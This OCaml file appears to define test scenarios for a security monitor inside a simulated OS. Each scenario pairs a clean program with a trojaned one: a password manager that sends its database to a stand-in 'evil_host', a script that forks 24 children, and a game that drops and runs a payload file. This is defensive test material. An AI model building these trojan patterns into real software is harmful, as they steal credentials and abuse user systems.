open Asm

let group = "macro"

let benign = Scenario.Benign
let medium = Scenario.Malicious Secpert.Severity.Medium
let high = Scenario.Malicious Secpert.Severity.High

let setup = Hth.Session.setup

let db_path = "/home/user/.pwsafe.dat"
let db_content = "site:bank.example user:alice pass:hunter2\n"

(* ---------------- pwsafe ---------------- *)
(* Opens its (hard-coded) database and prints entries to stdout. *)
let pwsafe_body u ~exfiltrate =
  Runtime.prologue u;
  asciz u "dbname" db_path;
  space u "fd" 4;
  space u "n" 4;
  if exfiltrate then
    Runtime.static_sockaddr u "c2" ~ip:(snd Common.evil_host) ~port:40400;
  label u "_start";
  Runtime.sys_open u ~path:(lbl "dbname") ~flags:Osim.Abi.o_rdonly;
  movl u (mlbl "fd") eax;
  Runtime.sys_read u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(imm 128);
  movl u (mlbl "n") eax;
  Runtime.sys_close u ~fd:(mlbl "fd");
  Runtime.sys_write u ~fd:(imm 1) ~buf:(lbl "__buf") ~len:(mlbl "n");
  if exfiltrate then begin
    Runtime.sys_socket u;
    movl u esi eax;
    Runtime.sys_connect u ~fd:esi ~addr:(lbl "c2");
    Runtime.sys_send u ~fd:esi ~buf:(lbl "__buf") ~len:(mlbl "n")
  end;
  Runtime.sys_exit u 0;
  hlt u

let pwsafe_exe () =
  let u = create ~path:"/usr/bin/pwsafe" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  pwsafe_body u ~exfiltrate:false;
  finalize u

let pwunsafe_exe () =
  let u = create ~path:"/usr/bin/pwsafe" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  pwsafe_body u ~exfiltrate:true;
  finalize u

let pwsafe =
  Scenario.define ~name:"pwsafe (clean)" ~group
    ~descr:"password manager prints the database to stdout"
    ~expected:benign
  @@ fun () ->
  setup ~programs:[ pwsafe_exe () ] ~files:[ db_path, db_content ]
    ~argv:[ "/usr/bin/pwsafe"; "--exportdb" ]
    ~main:"/usr/bin/pwsafe" ()

let pwunsafe =
  Scenario.define ~name:"pwsafe (trojaned)" ~group
    ~descr:"also sends the database to a hard-coded remote host"
    ~expected:high
  @@ fun () ->
  setup ~programs:[ pwunsafe_exe () ] ~files:[ db_path, db_content ]
    ~hosts:Common.all_hosts
    ~servers:
      [ fst Common.evil_host, 40400,
        { Osim.Net.actor_host = fst Common.evil_host; script = [] } ]
    ~argv:[ "/usr/bin/pwsafe"; "--exportdb" ]
    ~main:"/usr/bin/pwsafe" ()

(* ---------------- mw ---------------- *)
(* The dictionary-lookup script: forks helper processes.  The paper
   monitors /usr/bin/perl running the script; resource abuse is the
   interesting axis (dataflow was disabled there). *)
let mw_exe ~children =
  let u = create ~path:"/usr/bin/perl" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  label u "_start";
  movl u edi (imm children);
  label u "spawn";
  Runtime.sys_fork u;
  testl u eax eax;
  jz u "child";
  decl u edi;
  jnz u "spawn";
  Runtime.sys_exit u 0;
  label u "child";
  Runtime.sys_sleep u 50;
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let mw =
  Scenario.define ~name:"mw2.2.1 (clean)" ~group
    ~descr:"dictionary lookup forks two helpers" ~expected:benign
  @@ fun () ->
  setup ~programs:[ mw_exe ~children:2 ] ~max_ticks:100_000
    ~argv:[ "/usr/bin/perl"; "mw2.2.1"; "tatterdemalion" ]
    ~main:"/usr/bin/perl" ()

let mw_trojaned =
  Scenario.define ~name:"mw2.2.1 (trojaned)" ~group
    ~descr:"modified script forks more than 20 children" ~expected:medium
  @@ fun () ->
  setup ~programs:[ mw_exe ~children:24 ] ~max_ticks:200_000
    ~argv:[ "/usr/bin/perl"; "mw2.2.1"; "tatterdemalion" ]
    ~main:"/usr/bin/perl" ()

(* ---------------- Tic Tac Toe ---------------- *)
let ttt_body u ~dropper =
  Runtime.prologue u;
  space u "fd" 4;
  if dropper then begin
    asciz u "dropname" "./malicious_code.txt";
    asciz u "dropdata" "echo you have been owned"
  end;
  label u "_start";
  Runtime.print u "board" " X | O |  \n---+---+---\n   | X |  \n";
  Runtime.sys_read u ~fd:(imm 0) ~buf:(lbl "__buf") ~len:(imm 8);
  Runtime.print u "board2" " X | O |  \n---+---+---\n O | X |  \n";
  if dropper then begin
    Runtime.sys_creat u ~path:(lbl "dropname");
    movl u (mlbl "fd") eax;
    Runtime.sys_write u ~fd:(mlbl "fd") ~buf:(lbl "dropdata") ~len:(imm 24);
    Runtime.sys_close u ~fd:(mlbl "fd");
    (* run the dropped file; it is not a valid image, so the exec fails
       with ENOEXEC (paper footnote 9) — the warning still fires *)
    Runtime.sys_execve u ~path:(lbl "dropname") ()
  end;
  Runtime.sys_exit u 0;
  hlt u

let ttt_exe ~dropper =
  let u = create ~path:"/usr/games/ttt" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  ttt_body u ~dropper;
  finalize u

let ttt =
  Scenario.define ~name:"Tic Tac Toe (clean)" ~group
    ~descr:"console game: stdin moves, stdout board" ~expected:benign
  @@ fun () ->
  setup ~programs:[ ttt_exe ~dropper:false ] ~user_input:[ "5\n" ]
    ~main:"/usr/games/ttt" ()

let ttt_trojaned =
  Scenario.define ~name:"Tic Tac Toe (trojaned)" ~group
    ~descr:"drops a hard-coded payload into a file and executes it"
    ~expected:high
  @@ fun () ->
  setup ~programs:[ ttt_exe ~dropper:true ] ~user_input:[ "5\n" ]
    ~main:"/usr/games/ttt" ()

let scenarios = [ pwsafe; pwunsafe; mw; mw_trojaned; ttt; ttt_trojaned ]
